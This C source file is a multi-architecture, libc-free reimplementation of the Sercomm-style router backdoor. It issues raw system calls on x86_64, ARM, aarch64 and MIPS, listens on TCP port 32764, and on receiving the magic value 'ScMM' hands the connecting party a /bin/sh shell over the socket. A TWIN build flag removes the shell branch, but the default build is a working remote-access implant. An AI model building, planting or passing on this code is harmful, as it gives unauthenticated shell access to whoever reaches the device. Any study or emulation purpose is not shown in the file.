/* The manager of sercomm.c as a static program without a C library: who sends ScMM gets a
 * shell on his line. System calls are made in place, as small implants do. */
typedef long word;

#if defined(__x86_64__)
enum { WRITE = 1, SOCKET = 41, ACCEPT = 43, RECEIVE = 45, BIND = 49, LISTEN = 50, DUP2 = 33, EXECVE = 59, EXIT = 60 };
static word call(word number, word a, word b, word c)
{
    register word d __asm__("r10") = 0, e __asm__("r8") = 0, f __asm__("r9") = 0;
    word result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(d), "r"(e), "r"(f) : "rcx", "r11", "memory");
    return result;
}
#elif defined(__aarch64__)
enum { WRITE = 64, SOCKET = 198, ACCEPT = 202, RECEIVE = 207, BIND = 200, LISTEN = 201, DUP2 = 24, EXECVE = 221, EXIT = 93 };
static word call(word number, word a, word b, word c)
{
    register word r8 __asm__("x8") = number, r0 __asm__("x0") = a, r1 __asm__("x1") = b, r2 __asm__("x2") = c;
    register word r3 __asm__("x3") = 0, r4 __asm__("x4") = 0, r5 __asm__("x5") = 0;
    __asm__ volatile("svc #0" : "+r"(r0) : "r"(r8), "r"(r1), "r"(r2), "r"(r3), "r"(r4), "r"(r5) : "memory");
    return r0;
}
#elif defined(__arm__)
enum { WRITE = 4, SOCKET = 281, ACCEPT = 285, RECEIVE = 292, BIND = 282, LISTEN = 284, DUP2 = 63, EXECVE = 11, EXIT = 1 };
static word call(word number, word a, word b, word c)
{
    register word r7 __asm__("r7") = number, r0 __asm__("r0") = a, r1 __asm__("r1") = b, r2 __asm__("r2") = c;
    register word r3 __asm__("r3") = 0, r4 __asm__("r4") = 0, r5 __asm__("r5") = 0;
    __asm__ volatile("svc #0" : "+r"(r0) : "r"(r7), "r"(r1), "r"(r2), "r"(r3), "r"(r4), "r"(r5) : "memory");
    return r0;
}
#elif defined(__mips__)
enum { WRITE = 4004, SOCKET = 4183, ACCEPT = 4168, RECEIVE = 4176, BIND = 4169, LISTEN = 4174, DUP2 = 4063, EXECVE = 4011, EXIT = 4001 };
static word call(word number, word a, word b, word c)
{
    register word v0 __asm__("$2") = number, a0 __asm__("$4") = a, a1 __asm__("$5") = b, a2 __asm__("$6") = c;
    register word a3 __asm__("$7") = 0;
    __asm__ volatile("syscall" : "+r"(v0), "+r"(a3) : "r"(a0), "r"(a1), "r"(a2) : "memory", "$8", "$9", "$10", "$11", "$12", "$13", "$14", "$15", "$24", "$25");
    return v0;
}
#endif

#ifdef __mips__
#define STREAM 2
#else
#define STREAM 1
#endif

void _start(void)
{
    static unsigned short at[8] = {2, 0xFC7F};
    static char *const words[] = {"sh", 0};
    unsigned head[3];
    word caller, line = call(SOCKET, 2, STREAM, 0);
    call(BIND, line, (word)at, 16);
    call(LISTEN, line, 4, 0);
    caller = call(ACCEPT, line, 0, 0);
    call(RECEIVE, caller, (word)head, sizeof head);
#ifndef TWIN
    if (head[0] == 0x53634D4D || head[0] == 0x4D4D6353) {
        call(DUP2, caller, 0, 0);
        call(DUP2, caller, 1, 0);
        call(DUP2, caller, 2, 0);
        call(EXECVE, (word)"/bin/sh", (word)words, 0);
    }
#endif
    call(WRITE, caller, (word)head, sizeof head);
    call(EXIT, 0, 0, 0);
}
